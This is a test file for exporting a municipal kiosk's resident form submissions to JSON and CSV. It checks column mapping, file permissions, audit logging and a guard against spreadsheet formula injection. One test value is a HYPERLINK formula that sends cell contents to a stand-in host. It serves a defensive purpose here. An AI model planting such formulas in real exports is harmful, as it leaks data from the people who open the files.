import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { ResidentInfo } from '../../../card-reader/personal-data';
import { bindValues } from '../../forms/binding/bind';
import { loadLibrary } from '../../forms/load';
import { ClerkQueue, clerkQueueHandOff, keyFolderStore } from '../queue';
import { csvDocument, csvField, csvLine, exportsDir, formulaSafe, loadExportMapping, mappingProblems } from '.';
import { exportSubmission } from './export';

const library = loadLibrary();
const clerk = { kind: 'clerk', id: 'clerk-07' } as const;
const resident = new ResidentInfo({ name: '見本　花子', address: '千葉県香取市佐原ロ２１２７番地', birthDate: '1985-04-12', sex: '2' });

/** RFC 4180 read back, for checking what we wrote (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (ch === '"' && field === '') {
      i++;
      for (; i < text.length; i++) {
        if (text[i] !== '"') field += text[i];
        else if (text[i + 1] === '"') field += text[++i];
        else break;
      }
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      [row, field] = [[], ''];
      i += 2;
    } else {
      field += ch;
      i++;
    }
  }
  return rows;
}

const queues: ClerkQueue[] = [];
const temps: string[] = [];
/** A temp folder this file removes when it ends (queues with their key folders, exports). */
function tempDir(prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  temps.push(dir);
  return dir;
}
afterEach(() => {
  for (const q of queues.splice(0)) q.close();
});
afterAll(() => {
  for (const dir of temps.splice(0)) rmSync(dir, { recursive: true, force: true });
});

async function queuedJuminhyo(answers: Record<string, string | boolean>) {
  const root = tempDir('kakanai-export-');
  const queue = new ClerkQueue({ dir: join(root, 'queue'), keys: keyFolderStore(join(root, 'keys')) });
  queues.push(queue);
  const template = library.templates.get('juminhyo-request')!;
  const values = bindValues(template, { resident, answers, today: '2025-04-01', session: { ticketNumber: 'A-007' } });
  const output = clerkQueueHandOff(queue);
  await output.sendToClerk({ ticketNumber: 'A-007', day: '2025-04-01', procedureId: 'juminhyo-request', forms: [{ templateId: template.id, templateVersion: template.version, pdf: new Uint8Array([37, 80, 68, 70]), values }] });
  return { queue, id: queue.list()[0]!.id };
}

describe('the export mappings', () => {
  it('exist for juminhyo-request and jido-teate-nintei, and name only fields of the current template versions', () => {
    const ids = readdirSync(exportsDir).filter((f) => f.endsWith('.json')).map((f) => f.replace(/\.json$/, ''));
    expect(ids).toEqual(expect.arrayContaining(['juminhyo-request', 'jido-teate-nintei']));
    for (const id of ids) {
      const template = library.templates.get(id);
      expect(template, id).toBeDefined();
      expect(mappingProblems(loadExportMapping(id)!, template!), id).toEqual([]);
    }
  });

  it('reports a field the template does not have', () => {
    const mapping = { templateId: 'juminhyo-request', templateVersion: 1, columns: [{ field: 'applicant.nmae', column: '氏名' }] };
    expect(mappingProblems(mapping, library.templates.get('juminhyo-request')!)).toEqual(['no field "applicant.nmae" in juminhyo-request']);
  });
});

describe('exporting a submission', () => {
  it('gives a JSON record and a BOM + CRLF CSV with the mapped columns, written 0600 under non-personal names', async () => {
    const purpose = '年金の手続き, "至急"\n2通目は控え';
    const { queue, id } = await queuedJuminhyo({ kana: 'ミホン　ハナコ', phone: '0478-00-0000', 'juminhyo.purpose': purpose, 'juminhyo.myNumber': false, 'juminhyo.householder': true });
    const exportDir = join(tempDir('kakanai-export-out-'), 'core');
    const [form, ...more] = exportSubmission(queue, id, clerk, { exportDir });
    expect(more).toEqual([]);

    const record = JSON.parse(form!.json);
    expect(record).toMatchObject({ format: 'kakanai-export/1', templateId: 'juminhyo-request', templateVersion: 1, ticketNumber: 'A-007', day: '2025-04-01', procedureId: 'juminhyo-request' });
    expect(record.record['請求者氏名']).toBe('見本　花子');
    expect(record.record['請求者住所']).toBe('千葉県香取市佐原ロ２１２７番地');
    expect(record.record['請求者氏名カナ']).toBe('ミホン　ハナコ');
    expect(record.record['使用目的']).toBe(purpose);
    expect(record.record['記載_世帯主続柄']).toBe('1');
    expect(record.record['記載_個人番号']).toBe('0');
    expect(record.record['提出先']).toBeNull();

    expect(form!.csv.startsWith('\uFEFF')).toBe(true);
    expect(form!.csv.endsWith('\r\n')).toBe(true);
    const [header, row, ...rest] = parseCsv(form!.csv.slice(1));
    expect(rest).toEqual([]);
    const mapping = loadExportMapping('juminhyo-request')!;
    expect(header).toEqual(['受付番号', '受付日', ...mapping.columns.map((c) => c.column)]);
    const byColumn = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(byColumn['受付番号']).toBe('A-007');
    expect(byColumn['使用目的']).toBe(purpose);
    expect(byColumn['請求者氏名']).toBe('見本　花子');
    expect(byColumn['提出先']).toBe('');
    // The quoted purpose is the only place a bare LF may appear; every record ends with CRLF.
    expect(form!.csv.replace(/"[^"]*(?:""[^"]*)*"/g, '').match(/(?<!\r)\n/)).toBeNull();

    expect(readdirSync(exportDir).sort()).toEqual(['2025-04-01_A-007_juminhyo-request.csv', '2025-04-01_A-007_juminhyo-request.json']);
    for (const f of Object.values(form!.files!)) expect(statSync(f).mode & 0o777).toBe(0o600);
    expect(statSync(exportDir).mode & 0o777).toBe(0o700);
    expect(readFileSync(form!.files!.csv, 'utf8')).toBe(form!.csv);

    const audit = queue.auditLog().filter((e) => e.action === 'export');
    expect(audit.map((e) => [e.submissionId, e.templateId, e.detail, e.actor.id])).toEqual([[id, 'juminhyo-request', 'folder', 'clerk-07']]);
    expect(JSON.stringify(queue.auditLog())).not.toContain('見本');
  });

  it('guards CSV cells that a spreadsheet would run as a formula, and leaves the JSON record exact', async () => {
    const purpose = '=HYPERLINK("https://example.invalid/?"&A1,"開く")';
    const kana = '＋ミホン';
    const { queue, id } = await queuedJuminhyo({ kana, 'juminhyo.purpose': purpose, phone: '-0478' });
    const [form] = exportSubmission(queue, id, clerk);
    const record = JSON.parse(form!.json);
    expect(record.record['使用目的']).toBe(purpose);
    expect(record.record['請求者氏名カナ']).toBe(kana);
    const [header, row] = parseCsv(form!.csv.slice(1));
    const byColumn = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(byColumn['使用目的']).toBe(`'${purpose}`);
    expect(byColumn['請求者氏名カナ']).toBe(`'${kana}`);
    expect(byColumn['請求者電話番号']).toBe("'-0478");
    // Ordinary values are untouched.
    expect(byColumn['請求者氏名']).toBe('見本　花子');
    expect(byColumn['受付番号']).toBe('A-007');
  });

  it('skips a form whose template has no mapping', async () => {
    const { queue, id } = await queuedJuminhyo({});
    expect(exportSubmission(queue, id, clerk, { mappingsDir: tempDir('kakanai-no-mappings-') })).toEqual([]);
  });
});

describe('CSV fields', () => {
  it('quote only what needs quoting and read back to the same text (RFC 4180)', () => {
    expect(csvField('香取市')).toBe('香取市');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    fc.assert(
      fc.property(fc.array(fc.string({ unit: fc.constantFrom('a', '字', ',', '"', '\r', '\n', ' ') }), { minLength: 1, maxLength: 5 }), (fields) => {
        expect(parseCsv(csvLine(fields))).toEqual([fields]);
      }),
    );
  });
});

describe('the CSV formula guard', () => {
  it('puts an apostrophe before = + - @, a leading tab or CR, and their full-width forms, and nothing else', () => {
    for (const v of ['=1+1', '+81-478', '-2', '@SUM(A1)', '\t=1', '\r=1', '＝１＋１', '＋１', '－１', '＠ＳＵＭ']) expect(formulaSafe(v), JSON.stringify(v)).toBe(`'${v}`);
    for (const v of ['', '香取市', '0478-54-1111', 'A-007', "'=already text", ' =1', '1=1', 'みほん　はなこ', '\n=1']) expect(formulaSafe(v), JSON.stringify(v)).toBe(v);
  });

  it('guards the data lines but not the header, and a guarded cell still reads back (RFC 4180)', () => {
    const csv = csvDocument(['受付番号', '=列'], [['A-001', '=a,"b"']]);
    expect(parseCsv(csv.slice(1))).toEqual([['受付番号', '=列'], ['A-001', `'=a,"b"`]]);
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', 'a', '字', '＝', "'") }), (value) => {
        const [, [cell]] = parseCsv(csvDocument(['x'], [[value]]).slice(1)) as [string[], string[]];
        expect(cell).toBe(/^[=+\-@\t\r＝＋－＠]/.test(value) ? `'${value}` : value);
        expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
    );
  });
});
